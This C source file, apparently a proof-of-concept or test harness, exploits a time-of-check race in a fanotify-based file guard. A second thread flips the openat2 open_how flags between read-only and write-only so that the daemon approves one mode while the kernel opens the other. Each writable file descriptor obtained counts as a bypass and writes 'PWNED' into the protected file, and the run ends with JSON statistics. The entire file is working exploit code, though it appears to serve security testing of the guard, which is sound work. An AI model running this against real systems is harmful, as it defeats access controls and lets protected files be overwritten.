// SPDX-License-Identifier: Apache-2.0
/*
 * openat2_flip PATH ITERATIONS: the open_how race on the fanotify file guard.
 *
 * The main thread calls openat2(PATH, {flags = O_WRONLY}) ITERATIONS times;
 * a second thread flips how.flags between O_WRONLY and O_RDONLY in a tight
 * loop. The kernel copies open_how once, at entry; a daemon that reads it
 * again from our memory while the open waits for its verdict may see the
 * other value. Every open that returns a writable fd is a bypass: it writes
 * "PWNED" to prove it.
 *
 * Prints one JSON line: {"pid":..,"iterations":..,"eperm":..,"write_fds":..,
 * "read_fds":..,"other":..,"other_errno":..}.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct open_how how;
static volatile int stop, running;

static void *flipper(void *arg)
{
	(void)arg;
	running = 1;
	while (!stop)
		__atomic_xor_fetch(&how.flags, (unsigned long long)O_WRONLY, __ATOMIC_RELAXED);
	return NULL;
}

int main(int argc, char **argv)
{
	long i, n, eperm = 0, write_fds = 0, read_fds = 0, other = 0;
	int other_errno = 0;
	pthread_t t;

	if (argc != 3) {
		fprintf(stderr, "usage: openat2_flip PATH ITERATIONS\n");
		return 2;
	}
	n = atol(argv[2]);
	how.flags = O_WRONLY;
	if (pthread_create(&t, NULL, flipper, NULL))
		return 1;
	while (!running)
		;
	for (i = 0; i < n; i++) {
		int fd = (int)syscall(SYS_openat2, AT_FDCWD, argv[1], &how, sizeof(how));

		if (fd >= 0) {
			if ((fcntl(fd, F_GETFL) & O_ACCMODE) == O_WRONLY) {
				write_fds++;
				if (write(fd, "PWNED", 5) < 0)
					other_errno = errno;
			} else {
				read_fds++;
			}
			close(fd);
		} else if (errno == EPERM) {
			eperm++;
		} else {
			other++;
			other_errno = errno;
		}
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("{\"pid\":%d,\"iterations\":%ld,\"eperm\":%ld,\"write_fds\":%ld,\"read_fds\":%ld,"
	       "\"other\":%ld,\"other_errno\":%d}\n",
	       getpid(), n, eperm, write_fds, read_fds, other, other_errno);
	return 0;
}
